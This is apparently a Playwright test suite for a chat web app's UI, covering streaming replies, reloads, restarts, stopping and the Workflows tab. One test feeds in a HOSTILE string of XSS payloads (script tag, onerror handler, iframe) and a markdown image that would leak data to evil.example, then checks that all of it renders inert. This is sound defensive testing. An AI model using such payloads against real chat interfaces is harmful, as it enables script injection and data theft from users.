"""The UI in a real browser: Debian's headless Chromium driven by Playwright. A user starts a
chat and watches the reply stream in; reloads (and restarts the app) during a long reply and sees
it finish; opens the Workflows tab; and hostile content renders inert. Screenshots go to
test-artifacts/."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, Page, Request, Route

from chat_core.testing.emulated_llm import EmulatedLLM
from tests.browser_support import bot_text, browser, open_app, page, screenshot, send, watch_reply
from tests.helpers import AppProcess, InProcessApp, base_env, query, wait_until

pytestmark = pytest.mark.slow  # the real app in a headless browser

__all__ = ["browser", "page"]  # fixtures

def test_chat_streams_and_finishes(page: Page, app: InProcessApp, llm: EmulatedLLM) -> None:
    llm.settings.reply_tokens = 30
    llm.settings.tpot_ms = 40
    open_app(page, app.url)
    page.click("#new-chat")
    asked: list[tuple[str, object]] = []  # each request's path, and the event's trigger
    page.on("request", lambda r: asked.append((r.url.removeprefix(app.url), _trigger(r))))
    send(page, "Hello from the browser")
    seen = watch_reply(page, "w28")
    assert len([s for s in seen if s.startswith("Reply to [Hello from the browser]")]) >= 3
    # The input was disabled while the reply streamed, and is usable again after.
    wait_until(lambda: page.locator("#message-box textarea").is_enabled(), timeout=10)
    assert not page.locator("#stop").is_visible()
    # The page drew the words from the app's own event stream: Gradio was asked to send the
    # message and to end the turn, not for each update (ui/chat/live_reply.py). The page's
    # load and the new chat may still have requests of their own on the way (a loaded
    # machine), so Gradio's requests are told apart by the component that set them off.
    streams = [u for u, _ in asked if u.startswith("/api/turns/")]
    assert len(streams) == 1 and streams[0].endswith("/events?render=html")
    box = page.evaluate("() => window.gradio_config.components.find("
                        "c => c.props.elem_id === 'message-box').id")
    # One request each, outside Gradio's queue (the page streamed through it before: a join
    # and its event stream per turn).
    assert [u for u, trigger in asked if trigger == box] == ["/gradio_api/run/predict"] * 2
    assert page.locator('#chatbot [data-testid="user"]').last.inner_text() == \
        "Hello from the browser"
    assert page.locator("#sidebar").get_by_text("Hello from the browser").is_visible()
    # Reopened with its reply ended, the page has nothing to follow: its chain ends with the
    # script's step, and no finish request (which cost Gradio a rebuild of each of its
    # outputs) is made. The thumbs' step, set off with it, comes back after the script ran.
    finish, thumbs = _load_chain(page)
    steps: list[object] = []
    page.on("request", lambda r: steps.append(_fn_index(r)))
    with page.expect_response(lambda r: _fn_index(r.request) == thumbs):
        page.reload()
    assert thumbs in steps and finish not in steps
    assert page.locator('#chatbot [data-testid="user"]').last.inner_text() == \
        "Hello from the browser"
    assert page.locator("#message-box textarea").is_enabled()
    # The chain's end shows no error: no toast, and no error tracker (hidden, but focusable)
    # on the notice.
    assert page.locator(".toast-body").count() == 0
    assert page.locator("#notice").get_by_role("button", name="Clear").count() == 0


def _load_chain(page: Page) -> tuple[int, int]:
    """The ids of the steps that follow the page's load showing its conversation: the finish
    step (after the script's), and the thumbs' step."""
    return tuple(page.evaluate("""() => {
      const deps = window.gradio_config.dependencies;
      const after = (d) => deps.filter(x => x.trigger_after === d.id);
      const script = (d) => after(d).find(x => x.js && !x.backend_fn);
      const open = deps.find(d => d.targets.some(([, event]) => event === 'load') && script(d));
      return [after(script(open))[0].id, after(open).find(d => d.backend_fn).id];
    }"""))


def _fn_index(request: Request) -> object:
    try:
        return json.loads(request.post_data or "").get("fn_index")
    except (ValueError, AttributeError):
        return None


def _trigger(request: Request) -> object:
    """The component whose event a request to Gradio runs (None for other requests)."""
    try:
        return json.loads(request.post_data or "").get("trigger_id")
    except (ValueError, AttributeError):
        return None


def test_reload_during_a_long_reply_reattaches(page: Page, app: InProcessApp,
                                               llm: EmulatedLLM) -> None:
    # Long enough (10 s) that the reload is back before it ends, even on a loaded machine
    # (a 5 s reply once ended while the page reloaded, and nothing was left to see stream).
    llm.settings.reply_tokens = 250
    llm.settings.tpot_ms = 40
    open_app(page, app.url)
    page.click("#new-chat")
    send(page, "a long reply please")
    wait_until(lambda: " w10" in bot_text(page), timeout=20)
    assert page.locator("#message-box textarea").is_disabled()
    page.reload()
    page.wait_for_selector("#message-box textarea")
    # The reloaded page finds the turn in the database and follows it to the end.
    seen = watch_reply(page, " w248")
    assert any(" w10" in s and " w248" not in s for s in seen[:-1]), "did not see it stream"
    assert len(llm.requests) == 1  # the same generation, not a new one
    wait_until(lambda: page.locator("#message-box textarea").is_enabled(), timeout=10)


def test_stop_button_keeps_the_partial_reply(page: Page, app: InProcessApp,
                                             llm: EmulatedLLM) -> None:
    llm.settings.reply_tokens = 300
    llm.settings.tpot_ms = 30
    open_app(page, app.url)
    page.click("#new-chat")
    send(page, "stop me midway")
    wait_until(lambda: " w5" in bot_text(page), timeout=20)
    page.click("#stop")
    wait_until(lambda: "(stopped)" in bot_text(page), timeout=20)
    assert " w299" not in bot_text(page)
    wait_until(lambda: page.locator("#message-box textarea").is_enabled(), timeout=10)


def test_a_dropped_stream_is_taken_up_again(page: Page, app: InProcessApp,
                                            llm: EmulatedLLM) -> None:
    """A phone's connection drops under a reply: the browser opens the stream again and the
    page goes on drawing from where the reply is (each event is the whole reply so far)."""
    llm.settings.reply_tokens = 80
    llm.settings.tpot_ms = 50
    dropped: list[str] = []

    def drop_first(route: Route) -> None:
        if not dropped:  # one event, then the connection ends
            dropped.append(route.request.url)
            route.fulfill(status=200, content_type="text/event-stream",
                          body='event: html\ndata: {"html": "<p>cut short</p>"}\n\n')
        else:
            route.continue_()

    page.route("**/events?render=html", drop_first)
    open_app(page, app.url)
    page.click("#new-chat")
    send(page, "through a bad connection")
    seen = watch_reply(page, " w78", timeout=40)
    assert dropped, "the stream was not opened"
    assert "cut short" in seen[:2]
    assert any(" w10" in s and " w78" not in s for s in seen), "did not see it stream"
    wait_until(lambda: page.locator("#message-box textarea").is_enabled(), timeout=10)


def test_another_conversation_ends_the_stream_and_the_reply_goes_on(
        page: Page, app: InProcessApp, llm: EmulatedLLM) -> None:
    """A page follows one reply at a time: a conversation opened while a reply is written
    closes that reply's stream (a phone keeps no stream open per visit), no error shows, and
    the reply, still written, is followed again when its conversation is opened again."""
    llm.settings.reply_tokens = 200
    llm.settings.tpot_ms = 50
    open_app(page, app.url)
    page.click("#new-chat")
    send(page, "keep writing while I look elsewhere")
    wait_until(lambda: " w5" in bot_text(page), timeout=20)
    # Closed by the page (an aborted request), while the reply is still being written.
    with page.expect_event("requestfailed", lambda r: "render=html" in r.url, timeout=5000):
        page.click("#new-chat")
    assert query(app.settings.database_url or "", "SELECT a.status FROM messages a JOIN messages"
                 " u ON u.conversation_id = a.conversation_id WHERE a.role = 'assistant' AND"
                 " u.content = 'keep writing while I look elsewhere'") == [("streaming",)]
    page.locator("#sidebar label").filter(has_text="keep writing").click()
    seen = watch_reply(page, " w198", timeout=30)
    assert any(" w150" not in s for s in seen), "did not see it stream again"
    wait_until(lambda: page.locator("#message-box textarea").is_enabled(), timeout=10)
    assert page.locator(".toast-body").count() == 0  # no error shown for the closed stream
    assert len(llm.requests) == 1


def test_the_pane_stays_at_the_end_of_a_growing_reply(page: Page, app: InProcessApp,
                                                      llm: EmulatedLLM) -> None:
    llm.settings.reply_tokens = 200
    llm.settings.tpot_ms = 40
    open_app(page, app.url)
    page.click("#new-chat")
    send(page, "\n\n".join(f"paragraph {i}" for i in range(30)))  # echoed: a tall reply
    wait_until(lambda: " w60" in bot_text(page), timeout=20)
    below = "el => el.scrollHeight - el.scrollTop - el.clientHeight"
    log = page.locator('#chatbot [role="log"]')
    assert page.evaluate("el => el.scrollHeight > 2 * el.clientHeight", log.element_handle())
    wait_until(lambda: " w120" in bot_text(page), timeout=20)
    assert log.evaluate(below) < 100  # still at the end, halfway through the reply


def test_workflows_tab_shows_the_turn(page: Page, app: InProcessApp, llm: EmulatedLLM) -> None:
    open_app(page, app.url)
    page.click("#new-chat")
    send(page, "find me in the workflows tab")
    watch_reply(page, "Reply to [find me in the workflows tab]")
    workflow_id = query(app.settings.database_url or "", "SELECT workflow_id FROM messages"
                        " WHERE content = 'find me in the workflows tab'")[0][0]
    page.get_by_role("tab", name="Workflows").click()
    cell = page.locator("#wf-table").get_by_text(workflow_id).filter(visible=True).first
    cell.wait_for()
    cell.click()
    page.wait_for_selector("#wf-steps :text('call_llm')")
    assert page.locator("#wf-selected textarea, #wf-selected input").first.input_value() == \
        workflow_id
    # And the picture of its steps: four bars, one after the other, each drawn.
    bars = page.locator("#wf-timeline .wf-bar")
    bars.nth(3).wait_for()
    boxes = [b.bounding_box() for b in bars.all()]
    assert len(boxes) == 4 and all(b is not None and b["width"] > 0 for b in boxes)
    starts = [b["x"] for b in boxes if b is not None]
    assert starts == sorted(starts) and starts[0] < starts[3]


HOSTILE = ('<script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 2"> '
           '![leak](http://evil.example/leak.png?d=secret) '
           '<img src="http://evil.example/img.png"> <iframe src="http://evil.example/"></iframe>')


def test_hostile_content_renders_inert(page: Page, app: InProcessApp, llm: EmulatedLLM) -> None:
    outside: list[str] = []

    def block(route: Route) -> None:
        outside.append(route.request.url)
        route.abort()

    page.route("**/*", lambda route: block(route)
               if "evil.example" in route.request.url else route.continue_())
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    llm.settings.reply_tokens = 40
    llm.settings.tpot_ms = 50
    open_app(page, app.url)
    page.click("#new-chat")
    send(page, HOSTILE)
    # While the reply is written the page draws it from the app's event stream, then as stored:
    # both inert.
    watch_reply(page, " w5")
    assert page.locator("#chatbot .live-reply").count() == 1
    assert page.evaluate("window.__pwned") is None
    assert page.locator("#chatbot img, #chatbot iframe, #chatbot script").count() == 0
    assert "[image: leak]" in bot_text(page)
    watch_reply(page, " w38")
    page.wait_for_timeout(1000)
    assert page.evaluate("window.__pwned") is None
    assert dialogs == [] and outside == []
    # The user still sees what was said, as text.
    assert "<script>" in page.locator('#chatbot [data-testid="user"]').last.inner_text()
    assert "[image: leak]" in bot_text(page)
    assert page.locator("#chatbot img[src*='evil.example']").count() == 0
    assert page.locator("#chatbot iframe").count() == 0


def test_restart_during_a_reply_and_reload(browser: Browser, database_url: str,
                                           llm: EmulatedLLM, tmp_path: Path) -> None:
    llm.settings.reply_tokens = 150
    llm.settings.tpot_ms = 40
    app = AppProcess(base_env(database_url, llm.base_url, tmp_path), tmp_path / "app.log")
    app.start()
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.set_default_timeout(30_000)
    try:
        open_app(page, app.url)
        page.click("#new-chat")
        send(page, "survive a restart")
        wait_until(lambda: " w10" in bot_text(page), timeout=20)
        app.kill9()
        # The next process streams the reply again from its start; it need not be slow
        # (only slow enough above to be killed in the middle): 150 tokens at 40 ms took 6 s.
        llm.settings.tpot_ms = 5
        app.start()
        page.reload()
        page.wait_for_selector("#message-box textarea")
        try:
            seen = watch_reply(page, " w148", timeout=60)
        except AssertionError as exc:  # where the end was lost: the turn, or the page's stream
            following = page.evaluate("() => { const live = window.__durableChatLive;"
                                      " return !!(live && live.stop); }")
            raise AssertionError(f"{exc}; the page's stream still open: {following}; the reply"
                                 " in the database: " + str(query(
                database_url, "SELECT status, length(content), workflow_id FROM messages WHERE"
                " role = 'assistant'")) + f"; {app.log_path} ends:\n{app.log()}") from exc
        assert seen[-1].startswith("Reply to [survive a restart]")
        assert httpx.get(f"{app.url}/healthz").status_code == 200
        rows = query(database_url, "SELECT role, status FROM messages m WHERE conversation_id ="
                     " (SELECT conversation_id FROM messages WHERE content ="
                     " 'survive a restart') ORDER BY seq, role DESC")
        assert rows == [("user", "complete"), ("assistant", "complete")]
    finally:
        screenshot(page, "test_restart_during_a_reply_and_reload.png")
        context.close()
        app.stop()
